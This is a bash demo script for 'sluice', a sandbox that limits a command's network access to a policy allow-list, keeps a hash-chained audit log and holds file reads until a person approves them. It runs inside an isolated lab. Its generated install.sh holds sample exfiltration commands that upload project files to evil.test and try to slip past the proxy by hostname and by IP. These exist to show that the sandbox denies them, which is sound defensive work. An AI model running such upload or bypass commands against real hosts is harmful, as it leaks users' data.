#!/usr/bin/env bash
# The showcase behind tools/demo.sh. It runs as root inside a throwaway lab (tests/lib/lab.sh): fresh
# network, mount and pid namespaces with a fake internet (DNS for *.test, web servers, an npm registry
# at registry.test) and no route to the real one, so nothing here touches the machine's network, and
# when the script ends the kernel removes every namespace, process and mount it made.
#
# Usage: tools/demo-lab.sh (root; SLUICE_BUILD_DIR = the build directory, default ./build).
#   SLUICE_DEMO_OUT=DIR   copy the session's audit log to DIR/audit.log before the lab goes away
#   SLUICE_DEMO_COLOR=0|1 force colours off/on (default: on when stdout is a terminal)
#   SLUICE_DEMO_INSTALLER=curl   use curl instead of npm (the fallback when npm is not installed)
# Exit status: 0 when every outcome the demo shows happened (no network by default, the install worked,
# evil.test was denied, the audit log verifies), 1 otherwise.
set -uo pipefail
demo_src=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
export SLUICE_SOURCE_DIR=${SLUICE_SOURCE_DIR:-$demo_src}
export SLUICE_BUILD_DIR=${SLUICE_BUILD_DIR:-$demo_src/build}
export SLUICE_PRESET_DIR=${SLUICE_PRESET_DIR:-$SLUICE_SOURCE_DIR/policy/presets}
# shellcheck source=../tests/lib/tap.sh
. "$SLUICE_SOURCE_DIR/tests/lib/tap.sh"
# shellcheck source=../tests/lib/lab.sh
. "$SLUICE_SOURCE_DIR/tests/lib/lab.sh"
lab_enter "$@" # from here on this script is "the host" of a fresh lab

if [ "${SLUICE_DEMO_COLOR:-}" = 1 ] || { [ -z "${SLUICE_DEMO_COLOR:-}" ] && [ -t 1 ]; }; then
	H=$'\033[1;36m' C=$'\033[33m' G=$'\033[32m' R=$'\033[31m' D=$'\033[2m' N=$'\033[0m'
else
	H='' C='' G='' R='' D='' N=''
fi
say() { printf '\n%s== %s%s\n' "$H" "$*" "$N"; }
note() { printf '%s%s%s\n' "$D" "$*" "$N"; }
# show ARGS...: prints the command as a user would type it (quoting only where needed).
show() {
	local a out=
	for a in "$@"; do
		if [[ $a =~ ^[A-Za-z0-9_./:=@%+,-]+$ ]]; then out+=" $a"; else out+=" '${a//\'/\'\\\'\'}'"; fi
	done
	printf '%s$%s%s\n' "$C" "$out" "$N"
}
# run ARGS...: shows the command, runs it, and leaves its exit status in $rc.
run() {
	show "$@"
	"$@"
	rc=$?
}
results=()
verdict() { # verdict OK|FAIL TEXT
	if [ "$1" = OK ]; then results+=("${G}✓${N} $2"); else results+=("${R}✗ $2${N}"); fi
}

t0=$(_lab_now_ms)
export PATH=$SLUICE_BUILD_DIR/sandbox:$SLUICE_BUILD_DIR/tools/sluicectl:$PATH
for b in sluice sluicectl; do
	command -v "$b" >/dev/null || lab_bail "$b is not built in $SLUICE_BUILD_DIR (run tools/demo.sh)"
done
lab_internet_up >/dev/null
# The lab host routes like a real gateway machine would: sessions get nowhere directly because of
# nftables, not because forwarding happens to be off.
lab_forward on
# The demo's own home and project: nothing of the machine's user configuration takes part.
export HOME=$LAB_DIR/home
proj=$LAB_DIR/my-project
audit=$LAB_DIR/audit.log
mkdir -p "$HOME" "$proj"
cd "$proj" || lab_bail "cannot enter $proj"
printf '%sThis demo runs in a throwaway lab: a fake internet (DNS for *.test, web servers, an npm registry at\nregistry.test) in network namespaces of its own, with no route to the real one. (lab ready in %s ms)%s\n' \
	"$D" "$LAB_INTERNET_UP_MS" "$N"

# ---------------------------------------------------------------------------------------------------------- 1
say "1. By default a sandboxed command has no network at all"
run sluice run -- curl -sS --max-time 5 http://registry.test/sluice-demo
no_net_rc=$rc
note "(exit status $no_net_rc: the session's network namespace holds only lo; no daemon was needed)"
if [ "$no_net_rc" -ne 0 ]; then verdict OK "no network by default: curl failed (exit $no_net_rc)"; else
	verdict FAIL "curl reached the network without --allow-network"
fi

# ---------------------------------------------------------------------------------------------------------- 2
say "2. --allow-network with a policy: the registry is reachable, nothing else is"
cat >demo-policy.json <<-'EOF'
	// demo-policy.json: this project may reach its package registry, and nothing else
	{
	  "allow": ["registry.test"]
	}
EOF
if [ "${SLUICE_DEMO_INSTALLER:-npm}" = npm ] && command -v npm >/dev/null && command -v node >/dev/null; then
	cat >install.sh <<-'EOF'
		# what an agent (or a postinstall script) does inside the sandbox
		npm install --registry http://registry.test/ --no-audit --no-fund --no-update-notifier sluice-demo
		node -e 'console.log("require(\"sluice-demo\") ->", require("sluice-demo"))'
		echo "--- and now an upload to a host the policy does not allow, three ways:"
		curl -sS -w "(HTTP %{http_code})\n" --data-binary @package.json http://evil.test/collect
		curl -sS --noproxy '*' http://evil.test/                            # around the proxy, by name
		curl -sS --noproxy '*' --connect-timeout 2 http://198.18.1.13/      # around the proxy, by address
	EOF
	installer=npm
else
	note "(npm is not installed (or SLUICE_DEMO_INSTALLER=curl): curl fetches the packument and tarball, as npm would)"
	cat >install.sh <<-'EOF'
		# what a package manager does inside the sandbox (curl makes npm's requests: npm is not used here)
		curl -sS http://registry.test/sluice-demo | grep -o '"tarball": *"[^"]*"'
		curl -sS -o sluice-demo-1.0.0.tgz http://registry.test/sluice-demo/-/sluice-demo-1.0.0.tgz &&
			tar -xzf sluice-demo-1.0.0.tgz && echo "installed: $(cat package/index.js)"
		echo "--- and now an upload to a host the policy does not allow, three ways:"
		curl -sS -w "(HTTP %{http_code})\n" --data-binary @demo-policy.json http://evil.test/collect
		curl -sS --noproxy '*' http://evil.test/                            # around the proxy, by name
		curl -sS --noproxy '*' --connect-timeout 2 http://198.18.1.13/      # around the proxy, by address
	EOF
	installer=curl
fi
[ "$installer" = npm ] && printf '{ "name": "my-project", "version": "0.1.0", "private": true }\n' >package.json
show cat demo-policy.json install.sh
cat demo-policy.json install.sh
show sluice run --allow-network --policy demo-policy.json --audit-log "$audit" -- sh install.sh
sluice run --allow-network --policy demo-policy.json --audit-log "$audit" -- sh install.sh 2>&1 |
	tee "$LAB_DIR/install.out"
rc=${PIPESTATUS[0]}
out=$(cat "$LAB_DIR/install.out")
note "(exit status $rc; the project directory is a copy-on-write overlay: what the command wrote there is"
note " discarded at exit unless you pass --save or --apply)"
if [ "$installer" = npm ]; then
	if grep -q 'sluice-demo from the sluice lab' <<<"$out" && grep -Eq 'added 1 package' <<<"$out"; then
		verdict OK "npm install from the allowed registry worked"
	else verdict FAIL "npm install from registry.test did not work"; fi
else
	if grep -q 'installed: module.exports' <<<"$out"; then
		verdict OK "the package was fetched from the allowed registry (curl)"
	else verdict FAIL "fetching from registry.test did not work"; fi
fi
if grep -q '(HTTP 403)' <<<"$out" && grep -q 'host: *evil.test' <<<"$out"; then
	verdict OK "the upload to evil.test was refused with 403 and the reason"
else verdict FAIL "evil.test was not refused with a 403"; fi

# ---------------------------------------------------------------------------------------------------------- 3
say "3. Every decision is in the audit log"
export SLUICE_AUDIT_LOG=$audit
run sluicectl log
denied=$(jq -r 'select(.decision == "deny") | .host' "$audit" 2>/dev/null | sort -u | tr '\n' ' ')
allowed=$(jq -r 'select(.decision == "allow" and .protocol == "http") | .host' "$audit" 2>/dev/null | sort -u | tr '\n' ' ')
[[ " $denied " == *" evil.test "* ]] && verdict OK "the audit log records the denial of evil.test" ||
	verdict FAIL "no denial of evil.test in the audit log"
dns_denied=$(jq -r 'select(.protocol == "dns" and .decision == "deny") | .host' "$audit" 2>/dev/null | sort -u | tr '\n' ' ')
drops=$(jq -r 'select(.protocol == "drop") | .host' "$audit" 2>/dev/null | sort -u | tr '\n' ' ')
if [[ " $dns_denied " == *" evil.test "* ]] && ! lab_dns_queries | grep -qi '^evil\.test$'; then
	verdict OK "the DNS query for evil.test was refused locally and never reached the internet's DNS server"
else verdict FAIL "the DNS query for evil.test was not refused, or it left the host"; fi
[[ " $drops " == *" 198.18.1.13 "* ]] && verdict OK "the direct connection to 198.18.1.13 was dropped by nftables and logged" ||
	verdict FAIL "no drop record for the direct connection to 198.18.1.13"
[[ " $allowed " == *" registry.test "* ]] && verdict OK "the audit log records the allowed registry requests" ||
	verdict FAIL "no allowed registry.test request in the audit log"
say "The log is hash-chained: editing, removing or reordering a line shows"
run sluicectl log verify "$audit"
if [ "$rc" -eq 0 ]; then verdict OK "the audit log's hash chain verifies"; else verdict FAIL "sluicectl log verify failed"; fi
forged=$LAB_DIR/forged.log
sed '0,/"decision":"deny"/s//"decision":"allow"/' "$audit" >"$forged"
note "(a copy with the denial rewritten as \"allow\":)"
run sluicectl log verify "$forged"
if [ "$rc" -ne 0 ]; then verdict OK "a forged line is detected"; else verdict FAIL "a forged line went unnoticed"; fi

# ---------------------------------------------------------------------------------------------------------- 4
say "4. --fs ask: a read outside the allow-list waits until a person approves it"
# a directory of the host outside every allow-list (a tmpfs of the lab's own: the machine's /srv is untouched)
mount -t tmpfs -o mode=755 sluice-demo /srv && mkdir -p /srv/notes && echo "the plan: ship on Friday" >/srv/notes/plan.txt
fsout=$LAB_DIR/fsask.out
show sluice run --fs ask -- cat /srv/notes/plan.txt
sluice run --fs ask --ask-timeout 20 -- cat /srv/notes/plan.txt >"$fsout" 2>"$fsout.err" &
fspid=$!
fsid=""
for _ in $(seq 100); do
	fsid=$(sluicectl asks --json 2>/dev/null | grep -o '"id":"fs-[0-9a-f]*"' | head -1 | cut -d'"' -f4)
	[ -n "$fsid" ] && break
	sleep 0.1
done
cat "$fsout.err"
note "(meanwhile, in another terminal:)"
run sluicectl asks
run sluicectl approve "$fsid"
wait "$fspid"
cat "$fsout"
if [ -n "$fsid" ] && grep -q "ship on Friday" "$fsout"; then
	verdict OK "--fs ask held the read of /srv/notes/plan.txt until it was approved"
else
	verdict FAIL "--fs ask: the held read was not listed or not let through after approval"
fi
umount /srv 2>/dev/null

if [ -n "${SLUICE_DEMO_OUT:-}" ]; then
	mkdir -p "$SLUICE_DEMO_OUT" && cp "$audit" "$SLUICE_DEMO_OUT/audit.log"
fi

say "Summary"
printf '%s\n' "${results[@]}"
elapsed=$(($(_lab_now_ms) - t0))
printf '%s(%d.%d s; the lab and everything in it is gone when this script exits)%s\n' "$D" \
	$((elapsed / 1000)) $((elapsed % 1000 / 100)) "$N"
for r in "${results[@]}"; do [[ $r == *✗* ]] && exit 1; done
exit 0
